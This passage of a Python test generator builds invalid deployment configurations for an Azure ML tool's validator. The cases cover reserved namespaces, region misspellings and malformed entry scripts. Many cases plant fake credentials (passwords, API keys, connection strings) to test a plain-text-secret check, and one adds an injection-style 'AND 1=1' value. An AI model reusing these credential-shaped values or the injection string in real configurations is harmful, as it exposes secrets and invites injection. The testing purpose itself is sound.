        yield case(f"edge-create-options-{label}", "edge", lambda c, v=options: c[e]["clinics"].update(createOptions=v),
                   f"{e}.clinics.createOptions")
    yield case("dev-requirements-not-requirements", "dev",
               lambda c: (c["mldeploy:images"]["diabetes"].pop("condaFile"),
                          c["mldeploy:images"]["diabetes"].update(requirementsFile="examples/diabetes/myenv.yml")),
               "mldeploy:images.diabetes.requirementsFile", "not a requirement")
    yield case("batch-requirements-not-requirements", "batch",
               lambda c: (c[b]["nightly"].pop("condaFile"),
                          c[b]["nightly"].update(requirementsFile="examples/diabetes/score.py")),
               f"{b}.nightly.requirementsFile", "not a requirement")
    yield case("edge-route-not-a-route", "edge",
               lambda c: c[e]["clinics"].update(routes={"up": "send everything upstream"}), f"{e}.clinics.routes", "route")

    # -- paths that name no file -----------------------------------------------------------------
    for name in ("..", ".", "..."):
        yield case(f"batch-output-file-{name}", "batch", lambda c, v=name: c[b]["nightly"].update(outputFileName=v),
                   f"{b}.nightly.outputFileName")

    def device(value: str) -> Callable[[dict], None]:
        def edit(c: dict) -> None:
            for k in ("targetCondition", "priority", "labels"):
                c[e]["clinics"].pop(k)
            c[e]["clinics"]["deviceId"] = value
        return edit
    yield case("edge-device-id-dotdot", "edge", device(".."), f"{e}.clinics.deviceId", "path segment")

    # -- secrets in plain text -------------------------------------------------------------------
    for name, value in (("DB_PASSWORD", "hunter2hunter2"), ("API_KEY", "k-93jd8s7d6f5"), ("HF_TOKEN", "hf_abcdefghij"),
                        ("STORAGE", "DefaultEndpointsProtocol=https;AccountName=x;AccountKey=abc=="),
                        ("BLOB_URL", "https://x.blob.core.windows.net/c?sv=2022&sig=abc")):
        yield case(f"edge-env-secret-{name}", "edge", lambda c, n=name, v=value: c[e]["clinics"]["env"].update({n: v}),
                   f"{e}.clinics.env", "plain text")
        yield case(f"managed-env-secret-{name}", "managed",
                   lambda c, n=name, v=value: c[s]["diabetes"]["deployments"]["green"].update(environmentVariables={n: v}),
                   f"{s}.diabetes.deployments.green.environmentVariables", "plain text")

    yield case("edge-create-options-env-secret", "edge",
               lambda c: c[e]["clinics"].update(createOptions={"Env": ["DB_PASSWORD=hunter2hunter2"]}),
               f"{e}.clinics.createOptions", "plain text")
    yield case("edge-access-policy-connection-string", "edge",
               lambda c: c[e]["clinics"]["iotHub"].update(
                   accessPolicy="HostName=h.azure-devices.net;SharedAccessKeyName=iothubowner;SharedAccessKey=abc="),
               f"{e}.clinics.iotHub.accessPolicy", "not a connection string")

    # -- keys that apply only in another mode ----------------------------------------------------
    yield case("dev-workspace-group-while-created", "dev",
               lambda c: c["mldeploy:workspace"].update(resourceGroup="rg-other"), "mldeploy:workspace", "existing workspace")
    yield case("dev-python-version-with-conda", "dev",
               lambda c: c["mldeploy:images"]["diabetes"].update(pythonVersion="3.10"), "mldeploy:images.diabetes",
               "pythonVersion")
    yield case("batch-python-version-with-conda", "batch", lambda c: c[b]["nightly"].update(pythonVersion="3.10"),
               f"{b}.nightly", "pythonVersion")
    yield case("batch-output-file-with-summary-only", "batch", lambda c: c[b]["nightly"].update(outputAction="summaryOnly"),
               f"{b}.nightly", "outputFileName")
    yield case("edge-sku-of-existing-hub", "edge", lambda c: c[e]["clinics"]["iotHub"].update(existing=True),
               f"{e}.clinics.iotHub", "existing")

    def labels_without_condition(c: dict) -> None:
        device("clinic-7")(c)
        c[e]["clinics"]["labels"] = {"model": "diabetes"}
    yield case("edge-labels-on-one-device", "edge", labels_without_condition, f"{e}.clinics", "labels")
    yield case("edge-label-reserved", "edge", lambda c: c[e]["clinics"]["labels"].update({"mldeploy-entry": "x"}),
               f"{e}.clinics", "reserved")
    yield case("edge-target-condition-8193", "edge", lambda c: c[e]["clinics"].update(
        targetCondition="tags.model='diabetes'" + " " * 8171 + "AND 1=1"), f"{e}.clinics.targetCondition", "8192")
    for label, name, value in (("value-space", "team", "ml platform"), ("name-dollar", "$team", "ml"),
                               ("value-129", "owner", "x" * 129), ("name-non-ascii", "équipe", "ml")):
        yield case(f"edge-label-{label}", "edge", lambda c, k=name, v=value: c[e]["clinics"]["labels"].update({k: v}),
                   f"{e}.clinics", "not an IoT Hub configuration label")
    yield case("prod-attach-dns-label-internal-lb", "prod-attach",
               lambda c: c[s]["diabetes"].update(internalLoadBalancer=True, dnsLabel="scoring-weu"),
               f"{s}.diabetes", "internal")
    yield case("prod-attach-collector-without-collection", "prod-attach",
               lambda c: c[s]["diabetes"].update(collectorImage="timberio/vector:0.46.1-distroless-static"),
               f"{s}.diabetes", "collectModelData")
    yield case("prod-attach-autoscale-max-while-fixed", "prod-attach",
               lambda c: c[s]["diabetes"].update(autoscaleEnabled=False), f"{s}.diabetes", "autoscaleEnabled")
    yield case("k8s-endpoint-autoscale-max-while-fixed", "kubernetes-endpoint",
               lambda c: c[s]["diabetes"]["deployments"]["green"].update(autoscaleMaxReplicas=4),
               f"{s}.diabetes.deployments.green", "autoscaleEnabled")
    yield case("managed-worker-count-in-env", "managed",
               lambda c: c[s]["diabetes"]["deployments"]["green"].update(environmentVariables={"WORKER_COUNT": "8"}),
               f"{s}.diabetes.deployments.green", "workerCount")
    yield case("local-app-insights", "local", lambda c: c[s]["diabetes"].update(appInsightsEnabled=True),
               f"{s}.diabetes", "Azure targets")
    yield case("k8s-endpoint-quota-without-managed", "kubernetes-endpoint",
               lambda c: c.update({"mldeploy:endpointQuota": {"standardDSv2Family": 8}}), "mldeploy:endpointQuota",
               "managed")
    yield case("k8s-endpoint-internal-lb-on-node-port", "kubernetes-endpoint",
               lambda c: c[s]["diabetes"].update(inferenceRouterServiceType="nodePort", internalLoadBalancer=True),
               f"{s}.diabetes", "loadBalancer")

    # -- Kubernetes namespaces reserved for the system -------------------------------------------
    for ns in ("kube-system", "kube-node-lease"):
        yield case(f"k8s-endpoint-namespace-{ns}", "kubernetes-endpoint",
                   lambda c, v=ns: c[s]["diabetes"].update(namespace=v), f"{s}.diabetes.namespace", "kube-")
    for ns in ("flux-system", "aks-istio-ingress"):
        yield case(f"prod-namespace-{ns}", "prod", lambda c, v=ns: c[s]["diabetes"].update(namespace=v),
                   f"{s}.diabetes.namespace", "namespace")


def corpus_cases() -> Iterator[Case]:
    """The kinds of issue 24 walked key by key (helper `corpus`): each case was accepted with exit 0
    before its rule; each names the key it breaks."""
    def case(id_: str, stack: str, edit: Callable[[dict], None], key: str, fragment: str = "") -> Case:
        d = _load(stack)
        edit(d["config"])
        return Case(id_, "semantic", stack, _dump(d), key, fragment)

    s, e, b = "mldeploy:services", "mldeploy:edge", "mldeploy:batch"
    img = "mldeploy:images"

    def copy_service(c: dict, src: str, dst: str, **extra: Any) -> None:
        c[s][dst] = {**copy.deepcopy(c[s][src]), **extra}

    def requirements(path: str) -> Callable[[dict], None]:
        def edit(c: dict) -> None:
            c[img]["diabetes"].pop("condaFile")
            c[img]["diabetes"]["requirementsFile"] = path
        return edit

    # -- values that clash across entries --------------------------------------------------------
    yield case("containerapp-two-apps-one-custom-domain", "containerapp",
               lambda c: (c[s]["diabetes-aca"].update(customDomain="score.example.com"),
                          copy_service(c, "diabetes-aca", "second")),
               f"{s}.second.customDomain", "is also service")
    yield case("edge-port-binding-on-edge-hub-port", "edge",
               lambda c: c[e]["clinics"].update(createOptions={"HostConfig": {"PortBindings": {"5001/tcp": [{"HostPort": "8883"}]}}}),
               f"{e}.clinics.createOptions", "edgeHub")

    # -- Azure's naming and size rules -----------------------------------------------------------
    yield case("aci-service-name-double-hyphen", "dev", lambda c: c[s].update({"diabetes--aci": c[s].pop("diabetes-aci")}),
               f"{s}.diabetes--aci", "consecutive hyphens")
    yield case("containerapp-service-name-double-hyphen", "containerapp",
               lambda c: c[s].update({"diabetes--aca": c[s].pop("diabetes-aca")}), f"{s}.diabetes--aca", "'--'")
    yield case("dev-tag-name-over-storage-limit", "dev", lambda c: c["mldeploy:tags"].update({"t" * 129: "x"}),
               "mldeploy:tags", "128")
    yield case("prod-expected-peak-below-typical", "prod",
               lambda c: c[s]["diabetes"]["expectedLoad"].update(peakRequestsPerSecond=5),
               f"{s}.diabetes.expectedLoad", "peakRequestsPerSecond")
    for name in ("IOTEDGE_MODULEID", "IOTEDGE_WORKLOADURI", "EdgeHubConnectionString", "AZUREML_MODEL_DIR",
                 "AZUREML_ENTRY_SCRIPT", "MLDEPLOY_SCORING_SERVER"):
        yield case(f"edge-env-reserved-{name}", "edge", lambda c, n=name: c[e]["clinics"]["env"].update({n: "x"}),
                   f"{e}.clinics.env", "reserved")
    for name in ("AZUREML_MODEL_DIR", "AZUREML_ENTRY_SCRIPT", "MLDEPLOY_BATCH_MAX_SIZE"):
        yield case(f"managed-env-reserved-{name}", "managed",
                   lambda c, n=name: c[s]["diabetes"]["deployments"]["blue"].update(environmentVariables={n: "x"}),
                   f"{s}.diabetes.deployments.blue.environmentVariables", "reserved")

    # -- file contents ---------------------------------------------------------------------------
    for label, path, fragment in (("no-run", "hostile/no-run.py", "run()"), ("no-init", "hostile/no-init.py", "init()"),
                                  ("empty", "hostile/empty.py", "init()"), ("not-py", "hostile/score.txt", ".py")):
        yield case(f"dev-entry-script-{label}", "dev", lambda c, v=path: c[img]["diabetes"].update(entryScript=v),
                   f"{img}.diabetes.entryScript", fragment)
        yield case(f"batch-entry-script-{label}", "batch", lambda c, v=path: c[b]["nightly"].update(entryScript=v),
                   f"{b}.nightly.entryScript", fragment)
    yield case("dev-requirements-include", "dev", requirements("hostile/req-include.txt"),
               f"{img}.diabetes.requirementsFile", "includes hostile/more-requirements.txt, which does not exist")
    yield case("dev-conda-python-27", "dev", lambda c: c[img]["diabetes"].update(condaFile="hostile/conda-py27.yml"),
               f"{img}.diabetes.condaFile", "Python")
    yield case("batch-conda-python-38", "batch", lambda c: c[b]["nightly"].update(condaFile="hostile/conda-py38.yml"),
               f"{b}.nightly.condaFile", "Python")
    yield case("dev-requirements-pin-clash", "dev", requirements("hostile/req-pin-clash.txt"),
               f"{img}.diabetes", "admit no one numpy version")
    yield case("dev-conda-pip-pin-clash", "dev", lambda c: c[img]["diabetes"].update(condaFile="hostile/conda-pip-clash.yml"),
               f"{img}.diabetes", "admit no one scikit-learn version")
    yield case("dev-conda-two-pythons", "dev", lambda c: c[img]["diabetes"].update(condaFile="hostile/conda-two-pythons.yml"),
               f"{img}.diabetes.condaFile", "admit no one Python together")
    yield case("dev-conda-no-python", "dev", lambda c: c[img]["diabetes"].update(condaFile="hostile/conda-no-python.yml"),
               f"{img}.diabetes", "python")
    yield case("dev-model-file-empty", "dev", lambda c: c["mldeploy:models"]["diabetes"].update(path="hostile/model-empty.pkl"),
               "mldeploy:models.diabetes.path", "empty")
    for label, options in (("host-config-string", {"HostConfig": "x"}), ("env-string", {"Env": "A=1"}),
                           ("env-no-equals", {"Env": ["NOEQUALS"]}), ("exposed-ports-list", {"ExposedPorts": ["5001/tcp"]}),
                           ("cmd-number", {"Cmd": ["python", 3]}), ("labels-list", {"Labels": ["a=b"]}),
                           ("port-bindings-list", {"HostConfig": {"PortBindings": ["5001:5001"]}}),
                           ("host-port-number", {"HostConfig": {"PortBindings": {"5001/tcp": [{"HostPort": 5001}]}}})):
        yield case(f"edge-create-options-{label}", "edge", lambda c, v=options: c[e]["clinics"].update(createOptions=v),
                   f"{e}.clinics.createOptions", "createOptions.")

    # -- secrets in plain text -------------------------------------------------------------------
    for name, value in (("DB_PASS", "hunter2hunter2"), ("DB_PWD", "hunter2hunter2"), ("OPENAI_KEY", "sk-abcdef1234567890abcd"),
                        ("AZURE_STORAGE_KEY", "abcdEFGH1234abcdEFGH1234=="), ("GITHUB", "ghp_abcdefghijklmnopqrstuvwxyz0123"),
                        ("AUTH_HEADER", "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc"),
                        ("DB", "Server=tcp:x.database.windows.net;Database=d;Password=hunter2;"),
                        ("DATABASE_URL", "postgres://admin:hunter2@db.example.com/x"), ("AWS", "AKIAABCDEFGHIJKLMNOP"),
                        ("clientSecret", "abc~defghijklmnop")):
        yield case(f"edge-env-secret-{name}", "edge", lambda c, n=name, v=value: c[e]["clinics"]["env"].update({n: v}),
                   f"{e}.clinics.env", "plain text")
        yield case(f"k8s-endpoint-env-secret-{name}", "kubernetes-endpoint",
                   lambda c, n=name, v=value: c[s]["diabetes"]["deployments"]["green"].update(environmentVariables={n: v}),
                   f"{s}.diabetes.deployments.green.environmentVariables", "plain text")
    yield case("dev-tag-secret", "dev", lambda c: c["mldeploy:tags"].update(apiKey="k-93jd8s7d6f5abc"), "mldeploy:tags", "plain text")
    yield case("dev-model-tag-secret", "dev", lambda c: c["mldeploy:models"]["diabetes"]["tags"].update(password="hunter2hunter2"),
               "mldeploy:models.diabetes.tags", "plain text")
    yield case("edge-label-secret", "edge", lambda c: c[e]["clinics"]["labels"].update(token="abcdef123456789"),
               f"{e}.clinics", "plain text")
    yield case("edge-create-options-cmd-secret", "edge",
               lambda c: c[e]["clinics"].update(createOptions={"Cmd": ["--password", "hunter2hunter2"]}),
               f"{e}.clinics.createOptions", "plain text")
    yield case("edge-create-options-cmd-inline-token", "edge",
               lambda c: c[e]["clinics"].update(createOptions={"Entrypoint": ["python", "--api-token=abcdef123456"]}),
               f"{e}.clinics.createOptions", "plain text")
    yield case("edge-create-options-label-secret", "edge",
               lambda c: c[e]["clinics"].update(createOptions={"Labels": {"api_key": "hunter2hunter2"}}),
               f"{e}.clinics.createOptions", "plain text")
    yield case("dev-requirements-index-password", "dev", requirements("hostile/req-creds.txt"),
               f"{img}.diabetes.requirementsFile", "password")
    yield case("dev-conda-pip-index-password", "dev",
               lambda c: c[img]["diabetes"].update(condaFile="hostile/conda-creds.yml"), f"{img}.diabetes.condaFile", "password")

    # -- keys that apply only in another mode ----------------------------------------------------
    yield case("fpga-expected-load", "fpga",
               lambda c: c[s]["diabetes-fpga"].update(expectedLoad={"requestsPerSecond": 10, "requestSeconds": 0.05}),
               f"{s}.diabetes-fpga.expectedLoad", "aks only")
    for key, value in (("resourceGroup", "rg-local"), ("workspace", {"name": "mlw-local"}),
                       ("deployerPrincipalType", "User"), ("rolePropagationTimeoutSeconds", 600)):
        yield case(f"local-{key}", "local", lambda c, k=key, v=value: c.update({f"mldeploy:{k}": v}), f"mldeploy:{key}",
                   "Azure")
    yield case("dev-deployer-without-created-cluster", "dev", lambda c: c.update({"mldeploy:deployerPrincipalType": "User"}),
               "mldeploy:deployerPrincipalType", "creates an AKS cluster")
    yield case("prod-attach-deployer-without-created-cluster", "prod-attach",
               lambda c: c.update({"mldeploy:deployerPrincipalType": "ServicePrincipal"}),
               "mldeploy:deployerPrincipalType", "creates an AKS cluster")

    # -- more of each kind (second pass) ---------------------------------------------------------
    for tag in ("model", "Model-Version"):
        yield case(f"dev-tag-set-by-mldeploy-{tag}", "dev", lambda c, t=tag: c["mldeploy:tags"].update({t: "x"}),
                   "mldeploy:tags", "set by mldeploy")
    yield case("containerapp-timeout-over-ingress", "containerapp",
               lambda c: c[s]["diabetes-aca"].update(scoringTimeoutMs=300000), f"{s}.diabetes-aca.scoringTimeoutMs", "240000")
    for label, path in (("run-without-parameter", "hostile/run-noarg.py"), ("init-with-parameter", "hostile/init-arg.py"),
                        ("run-two-parameters", "hostile/run-two.py")):
        yield case(f"dev-entry-script-{label}", "dev", lambda c, v=path: c[img]["diabetes"].update(entryScript=v),
                   f"{img}.diabetes.entryScript", "the server calls")
        yield case(f"batch-entry-script-{label}", "batch", lambda c, v=path: c[b]["nightly"].update(entryScript=v),
                   f"{b}.nightly.entryScript", "the server calls")
    yield case("dev-requirements-local-path", "dev", requirements("hostile/req-local.txt"),
               f"{img}.diabetes.requirementsFile", "local path")
    yield case("dev-requirements-editable-path", "dev", requirements("hostile/req-editable.txt"),
               f"{img}.diabetes.requirementsFile", "local path")
    yield case("dev-conda-pip-includes-file", "dev", lambda c: c[img]["diabetes"].update(condaFile="hostile/conda-pip-r.yml"),
               f"{img}.diabetes.condaFile", "includes another file")
    for label, origins in (("twice", ["https://a.example.com", "https://A.example.com"]),
                           ("star-and-more", ["*", "https://a.example.com"]), ("port-99999", ["https://a.example.com:99999"])):
        yield case(f"dev-cors-{label}", "dev", lambda c, v=origins: c[s]["diabetes-aci"].update(cors={"allowedOrigins": v}),
                   f"{s}.diabetes-aci.cors.allowedOrigins")
    yield case("dev-model-description-connection-string", "dev",
               lambda c: c["mldeploy:models"]["diabetes"].update(description="DefaultEndpointsProtocol=https;AccountKey=abc=="),
               "mldeploy:models.diabetes.description", "plain text")
    yield case("managed-deployment-description-url-password", "managed",
               lambda c: c[s]["diabetes"]["deployments"]["blue"].update(description="https://admin:hunter2@db.example.com"),
               f"{s}.diabetes.deployments.blue.description", "plain text")
    yield case("prod-expected-load-without-autoscale", "prod",
               lambda c: (c[s]["diabetes"].update(autoscaleEnabled=False, numReplicas=2),
                          [c[s]["diabetes"].pop(k) for k in ("autoscaleTargetUtilization", "autoscaleMaxReplicas",
                                                             "autoscaleMinReplicas")]),
               f"{s}.diabetes", "expectedLoad")
    yield case("managed-workspace-sku-of-existing", "managed",
               lambda c: c["mldeploy:workspace"].update(create=False, sku="Basic"), "mldeploy:workspace", "sku")

    # -- Kubernetes namespaces reserved for the system -------------------------------------------
    for ns in ("gatekeeper-system", "calico-system", "flux-system", "dapr-system"):
        yield case(f"k8s-endpoint-namespace-{ns}", "kubernetes-endpoint",
                   lambda c, v=ns: c[s]["diabetes"].update(namespace=v), f"{s}.diabetes.namespace", "reserved")
    for ns in ("dapr-system", "istio-system", "azure-arc"):
        yield case(f"prod-namespace-{ns}", "prod", lambda c, v=ns: c[s]["diabetes"].update(namespace=v),
                   f"{s}.diabetes.namespace", "namespace")
        yield case(f"fpga-service-named-{ns}", "fpga", lambda c, v=ns: c[s].update({v: c[s].pop("diabetes-fpga")}),
                   f"{s}.{ns}", "namespace")


def corpus2_cases() -> Iterator[Case]:
    """The candidates helper `corpus` probed that still exited 0 (issue 24, helper `corpus2`):
    each exited 0 before its rule; each names the key it breaks."""
    def case(id_: str, stack: str, edit: Callable[[dict], None], key: str, fragment: str = "") -> Case:
        d = _load(stack)
        edit(d["config"])
        return Case(id_, "semantic", stack, _dump(d), key, fragment)

    s, e, m, img = "mldeploy:services", "mldeploy:edge", "mldeploy:models", "mldeploy:images"
    for stack, region in (("dev", "westeurop"), ("managed", "West Europ"), ("edge", "europewest")):
        yield case(f"{stack}-location-{region.replace(' ', '-').lower()}", stack,
                   lambda c, v=region: c.update({"azure-native:location": v}), "azure-native:location", "region")
    yield case("edge-module-name-over-128", "edge", lambda c: c[e]["clinics"].update(moduleName="m" * 129),
               f"{e}.clinics.moduleName", "128")
    yield case("containerapp-revision-label-double-hyphen", "containerapp",
               lambda c: c[s]["diabetes-aca"]["revisions"].update({"bl--ue": c[s]["diabetes-aca"]["revisions"].pop("blue")}),
               f"{s}.diabetes-aca.revisions", "'--'")
    yield case("prod-canary-takes-all-traffic", "prod",
               lambda c: (c[img].update({"diabetes-v2": copy.deepcopy(c[img]["diabetes"])}),
                          c[s]["diabetes"].update(canary={"image": "diabetes-v2", "trafficPercent": 100})),
               f"{s}.diabetes.canary.trafficPercent", "promot")
    yield case("dev-sample-request-null", "dev", lambda c: c[img]["diabetes"].update(sampleRequest="hostile/null.json"),
               f"{img}.diabetes.sampleRequest", "null")
    yield case("prod-service-sample-request-null", "prod",
               lambda c: c[s]["diabetes"].update(sampleRequest="hostile/null.json"), f"{s}.diabetes.sampleRequest", "null")
    for label, path in (("stacks-folder", "stacks"), ("pulumi-yaml", "Pulumi.yaml")):
        yield case(f"dev-model-path-{label}", "dev", lambda c, v=path: c[m]["diabetes"].update(path=v),
                   f"{m}.diabetes.path", "stack configuration")
    yield case("fpga-regions-misspelt-entry", "fpga",
               lambda c: c[s]["diabetes-fpga"].update(fpgaRegions=[c["azure-native:location"], "westeurop"]),
               f"{s}.diabetes-fpga.fpgaRegions", "westeurop")
    yield case("prod-host-name-on-cluster-ip", "prod",
               lambda c: (c[s]["diabetes"].update(serviceType="ClusterIP"), c[s]["diabetes"].pop("dnsZone")),
               f"{s}.diabetes.hostName", "ClusterIP")


def corpus3_cases() -> Iterator[Case]:
    """More of issue 24's kinds (helper `corpus3`): each exited 0 before its rule; each names the key."""
    def case(id_: str, stack: str, edit: Callable[[dict], None], key: str, fragment: str = "") -> Case:
        d = _load(stack)
        edit(d["config"])
        return Case(id_, "semantic", stack, _dump(d), key, fragment)

    s, e, b, img = "mldeploy:services", "mldeploy:edge", "mldeploy:batch", "mldeploy:images"
    # -- file contents: entry scripts the server cannot call -------------------------------------
    for label, path, fragment in (("async-run", "hostile/async-run.py", "async def"),
                                  ("async-init", "hostile/async-init.py", "async def")):
        yield case(f"dev-entry-script-{label}", "dev", lambda c, v=path: c[img]["diabetes"].update(entryScript=v),
                   f"{img}.diabetes.entryScript", fragment)
        yield case(f"batch-entry-script-{label}", "batch", lambda c, v=path: c[b]["nightly"].update(entryScript=v),
                   f"{b}.nightly.entryScript", fragment)
    for label, path in (("run-varargs", "hostile/run-varargs.py"), ("run-kwargs", "hostile/run-kwargs.py"),
                        ("run-positional-only", "hostile/run-posonly.py")):
        yield case(f"dev-entry-script-{label}", "dev", lambda c, v=path: c[img]["diabetes"].update(entryScript=v),
                   f"{img}.diabetes.entryScript", "azmlinfsrv refuses")
    # -- keys of another mode: the AKS rules on an FPGA service (an AKS service on its own pool) --
    yield case("fpga-canary-takes-all-traffic", "fpga",
               lambda c: (c[img].update({"diabetes-v2": copy.deepcopy(c[img]["diabetes"])}),
                          c[s]["diabetes-fpga"].update(canary={"image": "diabetes-v2", "trafficPercent": 100})),
               f"{s}.diabetes-fpga.canary.trafficPercent", "promot")
    yield case("fpga-host-name-on-cluster-ip", "fpga",
               lambda c: c[s]["diabetes-fpga"].update(serviceType="ClusterIP", hostName="fpga.ml.contoso.com"),
               f"{s}.diabetes-fpga.hostName", "ClusterIP")
    # -- secrets under unusual key names, and in unusual places ----------------------------------
    for name, value in (("CLIENTSECRET", "abc~defghijklmnop"), ("DBPASSWORD", "hunter2hunter2"),
                        ("SASTOKEN", "sv=2022-11-02&ss=b"), ("STORAGEACCOUNTKEY", "abcd1234"),
                        ("Passwort", "geheim-geheim"), ("mot_de_passe", "secret-secret"), ("senha", "segredo123")):
        yield case(f"edge-env-secret-{name}", "edge", lambda c, n=name, v=value: c[e]["clinics"]["env"].update({n: v}),
                   f"{e}.clinics.env", "plain text")
        yield case(f"managed-env-secret-{name}", "managed",
                   lambda c, n=name, v=value: c[s]["diabetes"]["deployments"]["blue"].update(environmentVariables={n: v}),
                   f"{s}.diabetes.deployments.blue.environmentVariables", "plain text")
    yield case("edge-create-options-cmd-positional-url-password", "edge",
               lambda c: c[e]["clinics"].update(createOptions={"Cmd": ["python", "app.py", "postgres://admin:hunter2@db/x"]}),
               f"{e}.clinics.createOptions", "plain text")
    yield case("edge-create-options-healthcheck-sas", "edge",
               lambda c: c[e]["clinics"].update(createOptions={"Healthcheck": {"Test": [
                   "CMD", "curl", "https://x.blob.core.windows.net/c/probe?sv=2022&sig=abcdef"]}}),
               f"{e}.clinics.createOptions", "plain text")
    yield case("managed-env-reference-not-injected", "managed",
               lambda c: c[s]["diabetes"]["deployments"]["blue"].update(environmentVariables={"DB_PASSWORD": "${DB_PASSWORD}x"}),
               f"{s}.diabetes.deployments.blue.environmentVariables", "plain text")
    # -- Docker's container names (edgeAgent names the module's container after it) --------------
    for module in ("-diabetes", "_diabetes", "d"):
        yield case(f"edge-module-name-docker-{module}", "edge", lambda c, v=module: c[e]["clinics"].update(moduleName=v),
                   f"{e}.clinics.moduleName", "Docker")
    # -- regions and clouds (azure-native:environment picks the cloud whose regions apply) --------
    yield case("dev-environment-misspelt", "dev", lambda c: c.update({"azure-native:environment": "usgoverment"}),
               "azure-native:environment", "did you mean usgovernment")
    yield case("dev-public-region-in-gov-cloud", "dev", lambda c: c.update({"azure-native:environment": "usgovernment"}),
               "azure-native:location", "public cloud")
    yield case("prod-gov-region-in-public-cloud", "prod", lambda c: c.update({"azure-native:location": "usgovvirginia"}),
               "azure-native:location", "azure-native:environment: usgovernment")
    yield case("prod-gov-region-misspelt", "prod",
               lambda c: c.update({"azure-native:environment": "usgovernment", "azure-native:location": "usgovvirgina"}),
               "azure-native:location", "did you mean usgovvirginia")
    yield case("prod-extra-regions-location-misspelt", "prod",
               lambda c: c.update({"azure-native:location": "westeurop", "mldeploy:extraRegions": ["newzealandsouth"]}),
               "azure-native:location", "did you mean westeurope")
    yield case("prod-extra-region-not-a-name", "prod", lambda c: c.update({"mldeploy:extraRegions": ["West Europe 2"]}),
               "mldeploy:extraRegions", "programmatic name")
    yield case("local-extra-regions", "local", lambda c: c.update({"mldeploy:extraRegions": ["newzealandsouth"]}),
               "mldeploy:extraRegions", "Azure")
    yield case("managed-in-china-cloud", "managed",
               lambda c: c.update({"azure-native:environment": "china", "azure-native:location": "chinanorth3"}),
               "mldeploy:services.diabetes.target", "not supported on the china cloud")
    yield case("batch-in-gov-cloud", "batch",
               lambda c: c.update({"azure-native:environment": "usgovernment", "azure-native:location": "usgovtexas"}),
               "mldeploy:batch.nightly", "not supported on the usgovernment cloud")
    yield case("edge-env-secret-injection-not-on-edge", "edge",
               lambda c: c[e]["clinics"]["env"].update({"OPENAI_API_KEY": "${{azureml://connections/aoai/credentials/key}}"}),
               f"{e}.clinics.env", "plain text")


def corpus4_cases() -> Iterator[Case]:
    """More of issue 24's kinds (helper `corpus4`), found by walking every key of every target's
    schema: each exited 0 before its rule; each names the key it breaks."""
    def case(id_: str, stack: str, edit: Callable[[dict], None], key: str, fragment: str = "") -> Case:
        d = _load(stack)
        edit(d["config"])
        return Case(id_, "semantic", stack, _dump(d), key, fragment)

    s, e, img = "mldeploy:services", "mldeploy:edge", "mldeploy:images"
    # -- Azure's sizes: an ACI container group gets at least 1 CPU and 1 GB ------------------------
    for label, size in (("cpu-half", {"cpuCores": 0.5}), ("memory-half", {"memoryGb": 0.5}),
                        ("both-0.9", {"cpuCores": 0.9, "memoryGb": 0.9})):
        yield case(f"dev-aci-group-below-minimum-{label}", "dev", lambda c, v=size: c[s]["diabetes-aci"].update(v),
                   f"{s}.diabetes-aci", "at least 1 CPU and 1 GB")
    # -- file contents: a sample request Python's json reads but JSON (RFC 8259) is not -----------
    for label, path, fragment in (("nan", "hostile/nan.json", "NaN is not a JSON number"),
                                  ("infinity", "hostile/infinity.json", "Infinity is not a JSON number"),
                                  ("name-twice", "hostile/name-twice.json", "written twice"),
                                  ("nested-name-twice", "hostile/nested-name-twice.json", "written twice")):
        yield case(f"dev-sample-request-{label}", "dev", lambda c, v=path: c[img]["diabetes"].update(sampleRequest=v),
                   f"{img}.diabetes.sampleRequest", fragment)
        yield case(f"managed-sample-request-{label}", "managed", lambda c, v=path: c[s]["diabetes"].update(sampleRequest=v),
                   f"{s}.diabetes.sampleRequest", fragment)
    yield case("prod-sample-request-nan", "prod", lambda c: c[s]["diabetes"].update(sampleRequest="hostile/nan.json"),
               f"{s}.diabetes.sampleRequest", "not JSON")
    # -- values that clash: createOptions saying again, differently, what env / hostPort say ------
    # (createOptions is merged over the module's own options: a list or a port binding replaces them)
    yield case("edge-create-options-env-drops-env", "edge",
               lambda c: c[e]["clinics"].update(createOptions={"Env": ["LOG_LEVEL=debug"]}),
               f"{e}.clinics.createOptions", "would be dropped")
    for label, binding in (("other-port", {"5001/tcp": [{"HostPort": "6000"}]}),
                           ("any-free-port", {"5001/tcp": [{"HostPort": ""}]}),
                           ("range", {"5001/tcp": [{"HostPort": "8000-8010"}]}),
                           ("no-protocol", {"5001": [{"HostPort": "6000"}]})):
        yield case(f"edge-create-options-binding-overrides-host-port-{label}", "edge",
                   lambda c, v=binding: c[e]["clinics"].update(createOptions={"HostConfig": {"PortBindings": v}}),
                   f"{e}.clinics.createOptions", "while hostPort is 5001")
    # -- Azure's rules: a new hub's policies; Kubernetes' probe rule; one region listed twice -----
    for policy in ("registryReadWrite", "service", "deployer"):
        yield case(f"edge-created-hub-access-policy-{policy}", "edge",
                   lambda c, v=policy: c[e]["clinics"]["iotHub"].update(accessPolicy=v),
                   f"{e}.clinics.iotHub", "only iothubowner")
    for stack, dep in (("kubernetes-endpoint", "blue"), ("kubernetes-endpoint", "green")):
        yield case(f"k8s-endpoint-{dep}-liveness-success-threshold-3", stack,
                   lambda c, d=dep: c[s]["diabetes"]["deployments"][d].update(livenessProbe={"successThreshold": 3}),
                   f"{s}.diabetes.deployments.{dep}.livenessProbe.successThreshold", "only 1")
    # -- file contents / clashes: an edge route to a sink IoT Edge does not have, or another module --
    for label, route, fragment in (
            ("sink-not-a-sink", "FROM /messages/modules/diabetes/outputs/* INTO iothub", "sink"),
            ("sink-wildcard", 'FROM /messages/* INTO BrokeredEndpoint("/modules/diabetes/inputs/*")', "sink"),
            ("source-other-module", "FROM /messages/modules/filter/outputs/* INTO $upstream", "'filter'"),
            ("sink-other-module", 'FROM /messages/modules/diabetes/outputs/* INTO BrokeredEndpoint("/modules/alerts/inputs/in1")',
             "'alerts'"),
            ("module-in-other-case", "FROM /messages/modules/Diabetes/outputs/* INTO $upstream", "'Diabetes'")):
        yield case(f"edge-route-{label}", "edge", lambda c, v=route: c[e]["clinics"].update(routes={"scores": v}),
                   f"{e}.clinics.routes", fragment)
    # -- secrets in plain text under another namespace's key (Pulumi reads it; the file is committed) --
    for stack, key, value in (("dev", "azure-native:clientSecret", "Xy8Q~abcdefghijklmnopqrstuvwxyz012345"),
                              ("prod", "azure-native:clientCertificatePassword", "hunter2hunter2"),
                              ("managed", "azure-native:oidcToken", "eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJ4In0.c2ln"),
